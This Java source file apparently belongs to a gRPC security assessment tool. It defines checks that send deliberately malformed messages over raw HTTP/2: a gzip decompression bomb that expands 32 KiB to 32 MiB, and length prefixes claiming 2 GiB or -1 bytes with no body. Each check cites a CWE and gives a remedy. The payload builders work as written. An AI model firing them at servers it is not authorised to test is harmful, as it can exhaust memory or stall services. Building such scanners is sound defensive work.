package dev.countersign.assessment;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.security.GeneralSecurityException;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/** Messages that are larger than they look, or claim to be. */
final class MessageBombs extends Abuse {
  private static final int COMPRESSED = 1;
  private static final int EXPANDED_BYTES = 32 << 20;
  private static final byte[] NOTHING = new byte[0];

  private final Bomb bomb;

  /** Adds the bomb to a call that has begun. */
  private interface Bomb {
    void addTo(RawHttp2 connection, int stream, String path) throws IOException;
  }

  private MessageBombs(String name, String tries, String source, Bomb bomb) {
    super(About.of(name, Group.PROTOCOL, Severity.HIGH)
        .tries(tries)
        .safe("The call is refused at once.")
        .source(source)
        .remedy("Bound the bytes of a message after decompression (grpc-java:"
            + " maxInboundMessageSize)."));
    this.bomb = bomb;
  }

  static List<Check> all() {
    return List.of(
        prefix("length-prefix-of-2-gib", "2,147,483,647", Integer.MAX_VALUE),
        prefix("length-prefix-negative", "4,294,967,295, which is -1 to some,", -1),
        new MessageBombs(
            "compressed-bomb",
            "A call with a message of 32 KiB that expands to 32 MiB.",
            "CWE-409; CVE-2026-48043",
            (connection, stream, path) -> {
              connection.request(stream, path, "grpc-encoding", "gzip");
              byte[] bomb = compressed();
              byte[] framed = RawHttp2.framed(COMPRESSED, bomb.length, bomb);
              for (int from = 0; from < framed.length; from += 16_000) {
                int to = Math.min(framed.length, from + 16_000);
                connection.frame(
                    Frame.DATA,
                    to == framed.length ? Frame.END_STREAM : 0,
                    stream,
                    java.util.Arrays.copyOfRange(framed, from, to));
              }
            }),
        new MessageBombs(
            "compressed-without-encoding",
            "A call with a message that claims to be compressed, without saying how.",
            "gRPC compression specification",
            (connection, stream, path) -> connection
                .request(stream, path)
                .frame(
                    Frame.DATA,
                    Frame.END_STREAM,
                    stream,
                    RawHttp2.framed(COMPRESSED, 0, NOTHING))));
  }

  private static MessageBombs prefix(String name, String number, int length) {
    return new MessageBombs(
        name,
        "A call with a message whose length claims to be " + number
            + " bytes, and nothing behind it.",
        "CWE-789",
        (connection, stream, path) -> connection
            .request(stream, path)
            .frame(Frame.DATA, 0, stream, RawHttp2.framed(0, length, NOTHING)));
  }

  /** A message in protobuf with one unknown field of zeros, so that nothing but its size is wrong. */
  private static byte[] compressed() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream zipped = new GZIPOutputStream(out)) {
      // Field 1000, length-delimited, and its length.
      zipped.write(new byte[] {(byte) 0xc2, 0x3e});
      int rest = EXPANDED_BYTES;
      for (; rest > 127; rest >>= 7) {
        zipped.write((rest & 127) | 128);
      }
      zipped.write(rest);
      byte[] zeros = new byte[1 << 16];
      for (int done = 0; done < EXPANDED_BYTES; done += zeros.length) {
        zipped.write(zeros);
      }
    }
    return out.toByteArray();
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, CannotRunException {
    try {
      return attack
          .asAllowed(connection -> {
            int stream = connection.newStream();
            bomb.addTo(connection, stream, attack.path());
            return connection.send().exchange(stream, true);
          })
          .mustNotSucceed("the call was answered");
    } catch (SocketTimeoutException e) {
      return Outcome.finding("the server waits for the rest of the message");
    }
  }
}
